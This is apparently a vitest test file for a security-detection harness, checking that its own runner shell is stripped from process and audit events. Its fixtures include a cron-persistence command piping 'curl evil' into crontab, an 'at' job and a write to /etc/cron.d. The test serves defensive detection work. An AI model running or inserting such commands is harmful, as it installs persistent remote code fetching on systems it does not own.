import { beforeEach, describe, expect, it } from 'vitest';
import { withoutRunner } from '../../../harness/engine/proof/runner-text.ts';
import type { EcsEvent, ProcessFields } from '../../../harness/model/event.ts';
import { event, exec, exit, file, fork, outside, process, resetClock } from './events.ts';

beforeEach(resetClock);

const script = 'echo "* * * * * curl evil" | crontab -\nat -f /tmp/x now';
const argv = ['/bin/sh', '-c', script];
const shell = process({ pid: 20, executable: '/bin/dash', args: argv, parent: outside });
const inherited = process({ pid: 21, executable: '/bin/dash', args: argv, parent: shell });
const at = process({
  pid: 21,
  executable: '/usr/bin/at',
  args: ['at', '-f', '/tmp/x', 'now'],
  parent: shell,
});
const nested = process({
  pid: 22,
  executable: '/bin/dash',
  args: ['/bin/sh', '-c', 'curl evil'],
  parent: at,
});

const ruled = (...events: EcsEvent[]) => withoutRunner([{ argv }], events);
const text = (events: readonly EcsEvent[]) => JSON.stringify(events);

/** Audit knows no process but its pid, and may know nothing of its arguments but a title of 128 bytes. */
const audited = (fields: Partial<ProcessFields>, action = 'executed'): EcsEvent => ({
  ...event('process', 'start', action, { process: { pid: 20, ...fields } as ProcessFields }),
  atomclock: { sensor: 'audit' },
});

describe("the harness's own shell", () => {
  it.each<[string, EcsEvent]>([
    ['as the kernel tells it', exec(shell)],
    ['as audit tells it', audited({ args: argv, command_line: argv.join(' ') })],
  ])('has no start that a rule could see: %s', (_, start) => {
    const next = exec(at);
    expect(ruled(start, next).events.map(({ event: { id } }) => id)).toEqual([next.event.id]);
  });

  it.each<[string, EcsEvent]>([
    ['the parent of what it starts', exec(at)],
    ['a fork of it', fork(inherited)],
    ['what it writes itself', file('creation', '/etc/cron.d/x', shell)],
    ['what a fork of it writes', file('creation', '/etc/cron.d/x', inherited)],
    ['its end', exit(shell)],
    ["audit's title", audited({ title: argv.join(' ') }, 'opened-file')],
  ])('has a program and no script as %s', (_, seen) => {
    const { events, altered } = ruled(seen);
    expect(events).toHaveLength(1);
    expect(text(events)).not.toContain('curl');
    expect(text(events)).toContain('/bin/sh');
    expect(altered).toEqual([seen]);
  });

  it('is recognised by a title that the kernel has cut', () => {
    const long = ['/bin/sh', '-c', `curl ${'x'.repeat(300)}`];
    const seen = audited({ title: long.join(' ').slice(0, 128) }, 'opened-file');
    expect(text(withoutRunner([{ argv: long }], [seen]).events)).not.toContain('curl');
  });

  it.each<[string, EcsEvent]>([
    ['what the attack starts by itself', exec(nested)],
    ['the same shell with another script', exec({ ...shell, args: ['/bin/sh', '-c', 'curl evil'] })],
    ['a log line that names a pid', event('process', 'info', 'logged', { message: script })],
  ])('leaves everything else as it is: %s', (_, seen) => {
    const { events, altered } = ruled(seen);
    expect(events[0]).toBe(seen);
    expect(altered).toEqual([]);
  });
});
